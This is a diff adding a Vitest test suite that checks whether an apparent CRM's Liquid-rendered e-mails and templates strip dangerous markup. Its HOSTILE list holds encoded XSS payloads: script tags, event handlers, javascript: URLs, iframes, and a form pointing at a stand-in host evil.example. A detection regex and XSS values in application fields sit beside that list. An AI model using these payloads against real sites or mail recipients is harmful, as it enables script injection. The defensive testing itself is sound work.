@@ -1,0 +1,121 @@
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import type { ApplicationSaved, EmailDetail, MailSender, Template } from '@study-crm/shared';
+import { startTestApp, type TestApp } from '../../test/harness.js';
+import { startSmtpServer } from '../../test/smtp-fixture.js';
+import { BASE, fullForm } from '../../test/application-fixtures.js';
+
+const EMAIL = '/admin/v1/message/email';
+
+// Markup a template can build from harmless-looking text with Liquid's filters (issue 38, item 1).
+const HOSTILE: string[] = [
+  '{{ "%3Cscript%3Ealert(1)%3C/script%3E" | url_decode | raw }}',
+  '{{ "%3Cimg src=x onerror=alert(1)%3E" | url_decode | raw }}',
+  '{{ "%3Csvg onload=alert(1)%3E" | url_decode | raw }}',
+  '{{ "%3Ca href=%22javascript:alert(1)%22%3Ex%3C/a%3E" | url_decode | raw }}',
+  '{{ "%3Ciframe src=%22javascript:alert(1)%22%3E%3C/iframe%3E" | url_decode | raw }}',
+  '{{ "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==" | base64_decode | raw }}',
+  '{{ "PGltZyBzcmM9eCBvbmVycm9yPWFsZXJ0KDEpPg==" | base64_decode | raw }}',
+  '{{ "%3C" | append: "script%3Ealert(1)%3C/script%3E" | url_decode | raw }}',
+  '{{ "script%3Ealert(1)%3C/script%3E" | prepend: "%3C" | url_decode | raw }}',
+  '{{ "[img src=x onerror=alert(1)]" | replace: "[", "%3C" | replace: "]", "%3E" | url_decode | raw }}',
+  '{{ "%26lt;script%26gt;alert(1)%26lt;/script%26gt;" | url_decode | escape_once | raw }}',
+  '{% capture s %}{{ "%3Cscript%3E" | url_decode }}{% endcapture %}{{ s | raw }}alert(1)',
+  `<a href="{{ 'javascript:alert(1)' }}">link</a>`,
+  `<a href="{{ 'jav' | append: 'ascript:alert(1)' }}">link</a>`,
+  `<a href="{{ 'java%0Ascript:alert(1)' | url_decode }}">link</a>`,
+  `<img src="{{ 'javascript:alert(1)' }}">`,
+  '{{ "%3Cform action=%22https://evil.example%22%3E%3Cinput name=p%3E%3C/form%3E" | url_decode | raw }}',
+];
+
+// What a recipient's mail client may run: a script, an event handler, a javascript: URL, a frame or a form (as
+// markup; the same words as text are harmless).
+const DANGER = /<(script|iframe|form|svg)|<[^>]*\son[a-z]+\s*=|<[^>]*=\s*["']?\s*javascript:/i;
+
+describe('rendered e-mails hold no markup the sanitiser would remove', () => {
+  let t: TestApp;
+  let token: string;
+  let smtp: Awaited<ReturnType<typeof startSmtpServer>>;
+  let senderId: number;
+
+  beforeAll(async () => {
+    smtp = await startSmtpServer({ user: 'office@example.com', pass: 'right-pass' });
+    t = await startTestApp({ env: { DELIVERY_POLL_MS: '20' } });
+    token = (await t.login()).token;
+    senderId = (
+      await t.post<MailSender>(
+        '/admin/v1/mailSenders/add',
+        { host: '127.0.0.1', port: smtp.port, account: 'office@example.com', password: 'right-pass', tlsMode: 'none' },
+        { token },
+      )
+    ).data.id;
+  });
+  afterAll(async () => {
+    await t?.close();
+    await smtp?.close();
+  });
+
+  const add = (v: Record<string, string | number | null>) =>
+    t.post<{ id: number }>(`${EMAIL}/add`, { senderId, platform: 'WEB', subject: 'Hi', ...v }, { token });
+  async function received(id: number, address: string) {
+    for (let i = 0; i < 200; i += 1) {
+      const res = await t.get<EmailDetail>(`${EMAIL}/view`, { id }, { token });
+      if (res.data.summary.queued === 0 && res.data.summary.sending === 0) {
+        expect(res.data.summary.sent).toBe(1);
+        const mail = smtp.received.find((r) => r.envelopeTo.includes(address));
+        return { html: String(mail!.mail.html), stored: res.data.content ?? '' };
+      }
+      await new Promise((r) => setTimeout(r, 25));
+    }
+    throw new Error(`e-mail ${id} did not settle`);
+  }
+
+  it('sends none of them in an e-mail content', async () => {
+    for (const [i, content] of HOSTILE.entries()) {
+      const to = `content${i}@example.com`;
+      const res = await add({ recipients: to, content: `<p>before</p>${content}<p>after</p>` });
+      expect(res.meta.code, content).toBe(200);
+      const { html, stored } = await received(res.data.id, to);
+      expect(html, content).not.toMatch(DANGER);
+      expect(stored, content).not.toMatch(DANGER);
+      // The rest of the e-mail arrives.
+      expect(html).toContain('<p>before</p>');
+      expect(html).toContain('<p>after</p>');
+    }
+  });
+
+  it("sends none of them in a template's frame", async () => {
+    for (const [i, piece] of HOSTILE.entries()) {
+      const tpl = await t.post<Template>(
+        '/admin/v1/message/templates/add',
+        { name: `Frame ${i}`, type: 'offer', frameHtml: `<html><body>${piece}{{ content }}</body></html>` },
+        { token },
+      );
+      expect(tpl.meta.code, piece).toBe(200);
+      const to = `frame${i}@example.com`;
+      const res = await add({ recipients: to, templateId: tpl.data.id, content: '<p>inside</p>' });
+      expect(res.meta.code, piece).toBe(200);
+      const { html } = await received(res.data.id, to);
+      expect(html, piece).not.toMatch(DANGER);
+      expect(html).toContain('<p>inside</p>');
+    }
+  });
+
+  it("sends none of them through an application's values printed raw", async () => {
+    const app = await t.post<ApplicationSaved>(
+      `${BASE}/create`,
+      fullForm({ name: '<img src=x onerror=alert(1)>', engFirstName: '%3Cscript%3Ealert(1)%3C/script%3E' }),
+      { token },
+    );
+    expect(app.meta.code).toBe(200);
+    const to = 'student@example.com';
+    const res = await add({
+      recipients: to,
+      applicationId: app.data.id,
+      content: '<p>{{ student.name | raw }} {{ student.engName | url_decode | raw }}</p>',
+    });
+    expect(res.meta.code).toBe(200);
+    const { html, stored } = await received(res.data.id, to);
+    expect(html).not.toMatch(DANGER);
+    expect(stored).not.toMatch(DANGER);
+  });
+});
